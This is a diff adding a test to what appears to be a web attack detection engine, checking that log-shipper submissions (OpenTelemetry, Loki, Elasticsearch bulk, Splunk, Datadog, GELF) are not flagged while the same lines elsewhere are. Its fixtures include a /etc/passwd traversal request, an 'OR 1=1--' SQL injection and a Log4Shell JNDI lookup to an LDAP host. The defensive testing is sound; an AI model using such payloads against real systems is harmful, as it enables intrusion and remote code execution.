@@ -545,6 +545,56 @@ def test_a_workloads_program_is_what_its_platform_runs(engine: Engine) -> None:
     assert _json_types(engine, patch, "/api/v1/pods/web/x/y") >= {"rce"}
 
 
+def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
+    """What a log shipper sends its store (OpenTelemetry's log records, Loki's push,
+    Elasticsearch's bulk documents, Splunk's HEC events, Datadog's and GELF's records)
+    records what happened, attacks on other servers among them: an access log's request,
+    a CRON line, a rejected statement, a file's path. XSS and Log4Shell count there, and
+    the same lines count in any other request and in the shipper's other fields."""
+    lines = [
+        '203.0.113.5 - - [05/Dec/2026:10:00:02 +0000] "GET /../../etc/passwd HTTP/1.1" 400 0',
+        "Dec  5 10:00:01 web-1 CRON[12345]: (root) CMD (/usr/local/bin/backup.sh > /dev/null)",
+        "ERROR:  syntax error at or near \"OR\"\nSTATEMENT: SELECT * FROM t WHERE a = '' OR 1=1--'",
+        '{"level":"info","msg":"connecting to redis","addr":"127.0.0.1:6379"}',
+    ]
+    types = partial(_json_types, engine)
+    attribute = {"key": "log.file.path", "value": {"stringValue": "/var/log/nginx/access.log"}}
+
+    def otlp(line: str) -> dict[str, object]:
+        record = {"body": {"stringValue": line}, "attributes": [attribute]}
+        return {"resourceLogs": [{"scopeLogs": [{"logRecords": [record]}]}]}
+
+    def loki(line: str) -> dict[str, object]:
+        stream = {"stream": {"filename": "/var/log/syslog"}, "values": [["1733392805", line]]}
+        return {"streams": [stream]}
+
+    def bulk(line: str) -> str:
+        document = {"@timestamp": "2026-12-05T10:00:00Z", "message": line}
+        return json.dumps({"index": {"_index": "logs"}}) + "\n" + json.dumps(document)
+
+    def sent(path: str, body: str, media: str = "application/json") -> set[str]:
+        request = Request("POST", path, (("Content-Type", media),), body.encode())
+        return {hit.type.value for hit in engine.scan(request)}
+
+    for line in lines:
+        assert types(otlp(line), "/v1/logs") == set(), line
+        assert types(loki(line), "/loki/api/v1/push") == set(), line
+        assert sent("/logs-web/_bulk", bulk(line) + "\n", "application/x-ndjson") == set(), line
+        assert types({"event": line, "sourcetype": "syslog"}, "/services/collector") == set()
+        assert sent("/services/collector/raw", line, "text/plain") == set(), line
+        assert types([{"ddsource": "nginx", "message": line}], "/api/v2/logs") == set(), line
+        assert types({"version": "1.1", "host": "web-1", "short_message": line}, "/gelf") == set()
+        assert types({"note": line}) != set(), line
+    assert types(otlp(XSS), "/v1/logs") == {"xss"}
+    assert types(loki("user=${jndi:ldap://198.51.100.7/a}"), "/loki/api/v1/push") == {"rce"}
+    assert types(loki(lines[2]), "/api/push") >= {"sqli", "ptrav"}  # no Loki's path
+    assert types([{"message": lines[2]}], "/api/v2/logs") == {"sqli"}  # no Datadog's record
+    assert types({"event": lines[2]}, "/services/collector/admin") == {"sqli"}
+    assert sent("/_bulk?note=" + quote(lines[2]), bulk("ok") + "\n") == {"sqli"}
+    product = json.dumps({"index": {}}) + "\n" + json.dumps({"title": lines[2]}) + "\n"
+    assert sent("/_bulk", product) == {"sqli"}  # a document of no log
+
+
 def test_a_package_manifests_scripts_are_the_commands_it_runs(engine: Engine) -> None:
     """npm's manifest (a name and a version beside `scripts`, saved whole or published to
     a registry under `versions`) names the commands its scripts run: commands, paths and
